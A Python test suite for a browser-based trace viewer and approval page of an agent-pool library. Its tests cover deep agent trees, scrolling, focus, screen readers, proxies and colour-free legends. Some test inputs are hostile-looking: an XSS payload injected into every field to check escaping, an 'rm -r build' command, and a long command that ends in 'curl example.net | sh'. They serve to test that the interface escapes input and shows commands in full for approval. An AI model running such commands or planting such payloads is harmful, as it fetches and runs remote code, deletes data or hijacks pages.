"""What users of comparable pages reported: of trace viewers, dashboards, and agents that ask for approval."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import trio
from browser_kit import (
    ROWS,
    SECONDS,
    Drawing,
    drawn,
    file_data,
    live_pool,
    names_of,
    open_browser,
    open_file,
    open_page,
    until,
)

from agentpool import AgentContext
from agentpool._core.approval import ApprovalRequest
from agentpool._core.messages import ToolCall
from agentpool.web._page import page_html

pytestmark = pytest.mark.processes

ACTIVE = "document.activeElement"
ARMED = ".card button:not([aria-disabled])"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with open_browser() as browser:
        yield browser


async def waiter(ctx: AgentContext) -> None:
    await trio.sleep_forever()


def chain(depth: int) -> Drawing:
    drawing = Drawing()
    parent = 0
    for number in range(depth):
        drawing.time += 0.01
        parent = drawing.spawn(f"level-{number}", parent)
    drawing.time += 1
    return drawing


# SigNoz/signoz#2523: a trace nested more than 100 deep was laid out in chaos.
# getsentry/sentry#106364: unfolding a chain of descendants froze the tab.
def test_a_chain_of_agents_hundreds_deep_is_read_folded_and_unfolded(browser: Any, tmp_path: Path) -> None:
    with open_file(browser, tmp_path, file_data(chain(400).picture)) as page:
        page.locator(ROWS).first.wait_for()
        page.locator(ROWS).first.focus()
        page.keyboard.press("End")
        until(page, f"{ACTIVE}.view && {ACTIVE}.view.agent.name === 'level-399'")
        assert page.evaluate(f"{ACTIVE}.getAttribute('aria-level')") == "400"
        label = page.locator(f"{ROWS} .label", has_text="level-399").bounding_box()
        assert label["width"] > 30
        page.locator("#fold-all").click()
        until(page, "document.getElementById('tree').getAttribute('aria-rowcount') === '2'")
        assert "399 agents below" in page.locator(ROWS).first.inner_text()
        page.locator("#unfold-all").click()
        until(page, "document.getElementById('tree').getAttribute('aria-rowcount') === '401'")


# openzipkin/zipkin#2359, openzipkin/zipkin#1382: some fields were made safe, and others were not.
def test_html_in_any_field_stays_text(browser: Any, tmp_path: Path) -> None:
    evil = "<img src=x onerror='window.hit=1'><script>window.hit=1</script>"
    drawing = chain(1)
    data = file_data(drawing.picture, title=evil, exit=evil)
    row = data["changes"]["agents"][0]
    row.update(model=evil, reason=evil, words=evil, detail=evil, kind="reasoning", stuck=True, phase=evil)
    data["changes"]["spans"].append([1, "acting", 0.0, 0.5, evil, [1]])
    data["pool"] = {"slots": 1, "providers": [{"name": evil, "circuit": evil, "pause": 1}], "budget": None}
    with open_file(browser, tmp_path, data) as page:
        page.locator(ROWS).first.click()
        page.locator("#agent summary").first.click()
        page.locator("#timeline").focus()
        page.keyboard.press("ArrowRight")
        page.get_by_role("tab", name="Pool").click()
        drawn(page)
        assert evil[:20] in page.locator("#panel-pool").inner_text()
        assert page.evaluate("window.hit") is None
        assert page.locator("img").count() == 0


# lensapp/lens#1791, tilt-dev/tilt#1935, docker-archive-public/docker.kitematic#1867: what is read runs away.
def test_a_table_that_is_read_stays_where_it_is_while_agents_come(browser: Any) -> None:
    with live_pool(max_concurrent=500) as shown, open_page(browser, shown.link) as page:
        for number in range(120):
            shown.spawn(waiter, name=f"agent-{number:03}")
        until(page, "document.getElementById('tree').getAttribute('aria-rowcount') === '121'")
        page.evaluate("document.getElementById('scroll').scrollTop = 1400")
        drawn(page)
        seen = page.locator(ROWS, has_text="agent-060").bounding_box()
        for number in range(120, 240):
            shown.spawn(waiter, name=f"agent-{number:03}")
        until(page, "document.getElementById('tree').getAttribute('aria-rowcount') === '241'")
        assert page.evaluate("document.getElementById('scroll').scrollTop") == 1400
        assert page.locator(ROWS, has_text="agent-060").bounding_box() == seen


# dojo/dojo1-dgrid#496: a row that changes loses the focus.
# microsoft/fluentui#31323: the row that has the focus is scrolled away, and keys do nothing any more.
def test_keys_go_on_where_they_were_while_rows_change_and_are_scrolled(browser: Any) -> None:
    async def changing(ctx: AgentContext) -> None:
        while True:
            await trio.sleep(0.05)
            await ctx.send(target, "x")

    async def taking(ctx: AgentContext) -> None:
        async for _ in ctx.inbox:
            pass

    with live_pool(max_concurrent=500) as shown, open_page(browser, shown.link) as page:
        target = shown.spawn(taking, name="agent-000").id
        for number in range(1, 200):
            shown.spawn(changing if number < 4 else waiter, name=f"agent-{number:03}")
        until(page, "document.getElementById('tree').getAttribute('aria-rowcount') === '201'")
        page.locator(ROWS).nth(2).focus()
        sent = "document.activeElement.querySelector('.c-messages').textContent"
        first = page.evaluate(sent)
        until(page, f"{ACTIVE}.view && {sent} !== {json.dumps(first)}")
        assert page.evaluate(f"{ACTIVE}.view.agent.name") == "agent-002"
        page.locator(ROWS).nth(5).hover()
        page.mouse.wheel(0, 3000)
        until(page, "document.getElementById('scroll').scrollTop > 2000")
        drawn(page)
        page.keyboard.press("ArrowDown")
        until(page, f"{ACTIVE}.view && {ACTIVE}.view.agent.name === 'agent-003'")


# microsoft/fluentui#30001, mui/material-ui#20204: Tab does not find the tree after its
# row with the focus has gone.
def test_the_tree_is_found_by_tab_after_its_row_has_gone(browser: Any, tmp_path: Path) -> None:
    drawing = chain(3)
    drawing.ends(3)
    with open_file(browser, tmp_path, file_data(drawing.picture)) as page:
        page.locator(ROWS).nth(1).click()
        page.select_option("#filter", "completed")
        until(page, "document.getElementById('found').textContent === '1 agent found'")
        page.select_option("#filter", "failed")
        page.locator("#empty").wait_for()
        page.select_option("#filter", "")
        page.locator(ROWS).first.wait_for()
        drawn(page)
        assert page.locator(f"{ROWS}[tabindex='0'], #tree[tabindex='0']").count() == 1


# QubesOS/qubes-issues#4185: Enter, typed for something else, confirmed what had just appeared.
# pensarai/apex#691: letters in the field beside the buttons approved.
def test_what_is_typed_elsewhere_decides_nothing(browser: Any) -> None:
    with live_pool() as shown, open_page(browser, shown.link) as page:
        shown.spawn(waiter, name="writer")
        page.locator(ROWS).first.wait_for()
        page.locator("#search").focus()
        call = ToolCall("c", "run_command", {"command": "rm -r build"})
        decisions = shown.ask(ApprovalRequest.of(1, "writer", call, "ask"))
        page.locator(".card").wait_for()
        until(page, f"document.querySelectorAll('{ARMED}').length >= 2")
        assert page.evaluate(f"{ACTIVE}.id") == "search"
        page.keyboard.type("yan ")
        page.keyboard.press("Enter")
        page.get_by_label(re.compile("Reason for denying")).focus()
        page.keyboard.type("y a n ok\n\n")
        page.locator(".card h3").focus()
        page.keyboard.type("yan\n ")
        drawn(page)
        assert decisions == []
        assert page.locator(".card").count() == 1


# letta-ai/letta-code#1584, automic-vault/automic-vault#157, Growth-Circle/cadis#435: the end of a long
# command was not to be seen, or only by scrolling sideways.
@pytest.mark.parametrize("width", [390, 1280])
def test_the_end_of_a_long_command_is_seen_before_it_is_approved(browser: Any, width: int) -> None:
    command = "echo " + "a" * 1500 + " && curl example.net | sh"
    size = {"width": width, "height": 800}
    with live_pool() as shown, open_page(browser, shown.link, viewport=size) as page:
        shown.spawn(waiter, name="writer")
        shown.ask(ApprovalRequest.of(1, "writer", ToolCall("c", "run_command", {"command": command}), "ask"))
        text = page.locator(".card .text")
        text.wait_for()
        assert text.text_content() == command
        assert text.evaluate("(text) => text.scrollWidth <= text.clientWidth")
        assert page.evaluate("document.documentElement.scrollWidth") <= width


class _Gateway(BaseHTTPRequestHandler):
    """As a proxy whose server is away: it answers, with something that is no stream."""

    def log_message(self, *_: Any) -> None:
        pass

    def do_GET(self) -> None:
        server: Any = self.server
        is_page = self.path == "/"
        is_away = server.away and not is_page
        self.send_response(502 if is_away else 200)
        self.send_header("content-type", "text/html" if is_away or is_page else "text/event-stream")
        self.end_headers()
        if is_page:
            self.wfile.write(page_html({"live": True, "title": "run", "run": "r"}).encode())
        elif is_away:
            self.wfile.write(b"<h1>Bad gateway</h1>")
        else:
            server.streams += 1
            row = {
                "id": server.streams,
                "name": f"agent-{server.streams}",
                "spawned": 0.0,
                "state": "running",
            }
            data = {"agents": [row], "time": 1.0, "totals": {"spawned": 1, "tokens": 0, "cost": 0}}
            self.wfile.write(f"event: changes\nid: r-{server.streams}\ndata: {json.dumps(data)}\n\n".encode())
            self.wfile.flush()
            server.cut.wait(SECONDS)


# commontoolsinc/labs#5390, voxel51/fiftyone#8502: a browser gives up for good after
# an answer that is no stream.
def test_a_page_behind_a_proxy_comes_back_after_its_server_did(browser: Any) -> None:
    server: Any = ThreadingHTTPServer(("127.0.0.1", 0), _Gateway)
    server.daemon_threads = True
    server.away, server.streams, server.cut = False, 0, threading.Event()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        address = f"http://127.0.0.1:{server.server_port}/"
        with open_page(browser, address, allowed="502") as page:
            page.locator(ROWS).first.wait_for()
            server.away = True
            server.cut.set()
            until(page, "document.getElementById('connection').dataset.tone === 'bad'")
            page.locator("#retry").wait_for()  # it tries again, and again
            server.cut.clear()
            server.away = False
            page.locator(ROWS).nth(1).wait_for()
            assert names_of(page) == ["agent-1", "agent-2"]
            until(page, "document.getElementById('connection').textContent === 'live'")
    finally:
        server.cut.set()
        server.shutdown()
        thread.join(SECONDS)
        server.server_close()


# openclaw/openclaw#65633, facebook/astryx#3393: a screen reader was told each word that a model streamed.
# owncast/owncast#3334: and each second that passed.
def test_a_screen_reader_is_not_told_each_word_and_each_second(browser: Any) -> None:
    with live_pool() as shown, open_page(browser, shown.link) as page:
        shown.spawn(waiter, name="writer")
        page.locator(ROWS).first.click()
        until(page, "document.getElementById('announce').textContent === 'writer is shown in the panel.'")
        said = page.evaluate(
            """() => { window.said = [];
            const live = document.querySelectorAll('[role=status], [role=alert], [aria-live], [role=log]');
            for (const each of live) new MutationObserver(() => window.said.push(each.id || each.className))
              .observe(each, {childList: true, characterData: true, subtree: true});
            return [...live].map((each) => each.id); }"""
        )
        assert "announce" in said
        for quiet in ("#elapsed", "#totals", "#rows", ".live", ".facts", ".messages"):
            around = "(quiet) => document.querySelector(quiet).closest('[role=status], [aria-live=polite]')"
            assert page.evaluate(around, quiet) is None, quiet
        began = page.locator("#elapsed").inner_text()
        until(page, f"document.getElementById('elapsed').textContent !== {json.dumps(began)}")
        until(page, f"document.getElementById('elapsed').textContent > {json.dumps(began)}")
        assert page.evaluate("window.said.filter((each) => each !== 'found')") == []


# bryntum/support#3269, SemanticMediaWiki/SemanticResultFormats#635: what takes no time is not drawn.
# highcharts/highcharts#17795: what is short is not seen in a long run.
def test_a_call_that_took_a_moment_is_seen_in_a_long_run(browser: Any, tmp_path: Path) -> None:
    drawing = Drawing()
    agent = drawing.spawn("quick")
    drawing.time += 5000
    drawing.phase(agent, "act")
    drawing.calls(agent, "blink")
    drawing.phase(agent, "reason", 2)  # at the same moment
    drawing.time += 5000
    drawing.ends(agent)
    with open_file(browser, tmp_path, file_data(drawing.picture)) as page:
        page.locator(ROWS).first.wait_for()
        drawn(page)
        box = page.locator("#timeline").bounding_box()
        y = page.locator(ROWS).first.bounding_box()["y"] + 14
        page.locator("#timeline").focus()
        told = set()
        page.keyboard.press("Home")
        for _ in range(4):
            told.add(page.locator("#announce-span").text_content())
            page.keyboard.press("ArrowRight")
        assert any("acts: blink" in each for each in told), told
        # Where it is, the lane has a colour of its own.
        x = int(5000 / 10100 * box["width"])
        colours = page.evaluate(
            """([x, y]) => { const canvas = document.getElementById('lanes');
            const data = canvas.getContext('2d').getImageData(x - 6, y, 12, 1).data;
            return [...Array(12).keys()].map((at) => data.slice(at * 4, at * 4 + 3).join()); }""",
            [x, int(y - box["y"])],
        )
        assert len(set(colours)) >= 2


# fadeoutsoftware/WASDI#231, NMGRL/pychron#682: the time went on after the end.
def test_the_time_stands_still_after_the_end(browser: Any) -> None:
    with live_pool() as shown, open_page(browser, shown.link) as page:
        shown.spawn(waiter, name="writer")
        page.locator(ROWS).first.click()
        shown.end("completed")
        until(page, "document.getElementById('state').textContent === 'completed'")
        until(page, "document.querySelector('.facts').textContent.includes('aborted')")
        drawn(page)

        def times() -> list[str]:
            return [
                page.locator(each).first.inner_text() for each in ("#elapsed", f"{ROWS} .c-time", ".facts")
            ]

        before = times()
        page.wait_for_timeout(2100)  # time has to pass, to be seen not to
        assert times() == before


# apache/airflow#66323, concourse/concourse#2436: states were told apart by colours
# that look the same to many.
def test_kinds_are_told_apart_without_colours(browser: Any, tmp_path: Path) -> None:
    with open_file(browser, tmp_path, file_data(chain(1).picture), forced_colors="active") as page:
        page.locator(ROWS).first.wait_for()
        drawn(page)
        pictures = page.evaluate(
            "[...document.querySelectorAll('.legend canvas')].map((each) => each.toDataURL())"
        )
        assert len(pictures) == 8
        assert len(set(pictures)) == 8


# getsentry/sentry#73842: on a touchpad, scrolling up and down moved the timeline sideways.
def test_scrolling_a_little_askew_over_the_timeline_goes_up_and_down_only(
    browser: Any, tmp_path: Path
) -> None:
    drawing = Drawing()
    for number in range(200):
        drawing.spawn(f"agent-{number}")
    drawing.time += 10
    with open_file(browser, tmp_path, file_data(drawing.picture)) as page:
        page.locator(ROWS).first.wait_for()
        page.locator("#timeline").hover()
        page.mouse.wheel(9, 400)
        until(page, "document.getElementById('scroll').scrollTop === 400")
        assert page.locator("#fit").get_attribute("aria-pressed") == "true"
        page.mouse.wheel(200, 9)
        until(page, "document.getElementById('fit').getAttribute('aria-pressed') === 'false'")
        assert page.evaluate("document.getElementById('scroll').scrollTop") == 400


# datalust/seq-tickets#2346: beyond a limit parts were missing, and nothing said so.
def test_what_is_not_kept_any_more_is_told(browser: Any, tmp_path: Path) -> None:
    data = file_data(chain(2).picture)
    data["changes"]["dropped"] = {"spans": 1200, "arrows": 3, "agents": 7}
    data["changes"]["agents"][0]["parent"] = 999  # it has gone
    with open_file(browser, tmp_path, data) as page:
        page.locator(ROWS).first.wait_for()
        assert names_of(page) == ["level-0", "level-1"]
        page.get_by_role("tab", name="Pool").click()
        drawn(page)
        assert "7 agents, 1,200 spans, 3 messages" in page.locator("#panel-pool").inner_text()
